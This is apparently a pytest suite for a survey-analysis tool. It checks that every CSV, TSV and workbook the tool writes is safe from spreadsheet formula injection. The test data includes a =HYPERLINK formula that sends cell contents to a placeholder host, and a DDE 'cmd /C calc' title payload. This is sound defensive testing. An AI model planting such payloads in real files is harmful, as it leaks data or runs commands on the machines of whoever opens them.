"""Every CSV and workbook that is written, made with hostile titles, labels, groups and ids, runs in no spreadsheet."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from connectedness.cli import app

EVIL = '=HYPERLINK("http://x.invalid/?a="&A1,"open")'
TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
TEXTS = {".csv", ".tsv", ".txt"}


def computed(text: str) -> bool:
    """Said another way than the writer says it: what a spreadsheet takes for the start of a formula, and no number."""
    first = text.lstrip()[:1]
    if not first or first not in "=+-@" and ord(first) not in (0xFF1D, 0xFF0B, 0xFF0D, 0xFF20):
        return text[:1] in ("\t", "\r")
    try:
        float(text.replace(",", "."))
    except ValueError:
        return True
    return False


def run(*arguments: object) -> str:
    result = CliRunner().invoke(app, [str(one) for one in arguments])
    assert result.exit_code == 0, result.output
    return result.output


@pytest.fixture(scope="module")
def written(made, tmp_path_factory) -> Path:
    """A district whose files are hostile, with all that the commands write of it."""
    import shutil

    root = Path(shutil.copytree(made, tmp_path_factory.mktemp("hostile") / "project"))
    for roster in root.glob("inbox/*/roster.csv"):
        text = roster.read_text(encoding="utf-8")
        roster.write_text(text.replace('"not_newcomer"', '"' + EVIL.replace('"', '""') + '"'), encoding="utf-8")
    for export in root.glob("inbox/*/export-in-person.csv"):
        rows = list(csv.reader(export.open(encoding="utf-8", newline="")))
        for row in rows[5:40]:
            row[rows[0].index("Q1_1")] = EVIL
            row[rows[0].index("Q1_2")] = "\t=1+1"
        with export.open("w", encoding="utf-8", newline="") as stream:
            csv.writer(stream).writerows(rows)
    survey = root / "survey.yaml"
    text = survey.read_text(encoding="utf-8")
    quoted = json.dumps(TITLE)
    text = re.sub(r"title: \{en: [^}]*\}", f"title: {{en: {quoted}, fr: {quoted}}}", text)
    text = re.sub(r'("\d{3}"): \{en: "[^"]*", fr: "[^"]*"\}', rf"\1: {{en: {quoted}, fr: {quoted}}}", text)
    text = text.replace("not_newcomer:", f"{json.dumps(EVIL)}:")  # else nobody would be in a group of this name
    survey.write_text(text.replace("max_bad_items", "#") + "max_bad_items: 9\n", encoding="utf-8")
    wave = sorted(path.name for path in (root / "inbox").iterdir())[-1]
    run("run", root, "--wave", wave)
    run("release", "rows", root, "--project", "peer-study")
    run("participation", root, "--wave", wave, "--json")
    out = root / "out"
    out.mkdir()
    answers = out / "answers.csv"
    header = ["=id", "who", "ST034Q01TA", "ST034Q02TA", "ST034Q03TA", "ST034Q04TA", "ST034Q05TA", "ST034Q06TA"]
    with answers.open("w", encoding="utf-8", newline="") as stream:
        lines = csv.writer(stream)
        lines.writerow(header)
        lines.writerows([EVIL, "-2+3", *("1234"[(i + k) % 4] for k in range(6))] for i in range(30))
    for ending in ("csv", "tsv", "xlsx"):
        run("score", "pisa-belonging", answers, "--keep", "=id,who", "-o", out / f"scores.{ending}")
    answers.unlink()
    for tool, ending in (("qualtrics", "qsf"), ("limesurvey", "txt"), ("redcap", "csv")):
        run("questionnaire", "healthy-relationships", "--for", tool, "-o", out / f"{tool}.{ending}")
    return root


def files(root: Path) -> list[Path]:
    endings = {*TEXTS, ".xlsx"}
    return [path for path in sorted(root.rglob("*")) if path.suffix in endings and "inbox" not in path.parts]


def cells_of(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    assert "\r" not in text.replace("\r\n", "\n"), path
    delimiter = "\t" if path.suffix != ".csv" else ","
    return [cell for row in csv.reader(text.splitlines(keepends=True), delimiter=delimiter) for cell in row]


def test_no_cell_is_a_formula(written):
    seen = []
    for path in files(written):
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as archive:
                assert not any(b"<f>" in archive.read(name) for name in archive.namelist()), path
            cells = [cell for sheet in load_workbook(path) for row in sheet.iter_rows() for cell in row]
            assert not [cell for cell in cells if cell.data_type == "f"], path
            seen.append(path)
        elif path.suffix in (".csv", ".tsv") or path.name == "limesurvey.txt":
            assert not [cell for cell in cells_of(path) if computed(cell)], path
            seen.append(path)
    told = " ".join(path.relative_to(written).as_posix() for path in seen)
    for wanted in (
        "unknown_labels.csv", "estimates/", "codebook.csv", "rows.csv", "out/scores.csv", "out/scores.tsv",
        "out/scores.xlsx", "out/redcap.csv", "out/limesurvey.txt",
    ):  # fmt: skip
        assert wanted in told, wanted


def test_the_hostile_texts_reached_what_is_written(written):
    """Else the test above would show nothing."""
    for pattern in (
        "**/unknown_labels.csv",
        "store/releases/*internal*/estimates/*.csv",
        "**/rows.csv",
        "**/scores.csv",
    ):
        texts = [path.read_text(encoding="utf-8") for path in written.glob(pattern)]
        assert any("'=HYPERLINK" in text for text in texts), pattern
    books = [path.read_text(encoding="utf-8") for path in written.glob("store/releases/*/codebook.csv")]
    assert any("@SUM(1+1)" in text for text in books)


def test_the_data_of_an_invariance_test_are_safe_too(tmp_path):
    import pandas as pd

    from connectedness.declare.registry import find_instrument
    from connectedness.psychometrics.invariance import write_invariance

    instrument = find_instrument("healthy-relationships")
    items = {item.id: [1 + (i + k) % 4 for i in range(500)] for k, item in enumerate(instrument.active_items())}
    frame = pd.DataFrame(items).assign(group=[EVIL if i % 2 else "-a" for i in range(500)])
    write_invariance(frame, instrument, "group", tmp_path)
    cells = cells_of(tmp_path / "answers.csv")
    assert not [cell for cell in cells if computed(cell)] and any("HYPERLINK" in cell for cell in cells)
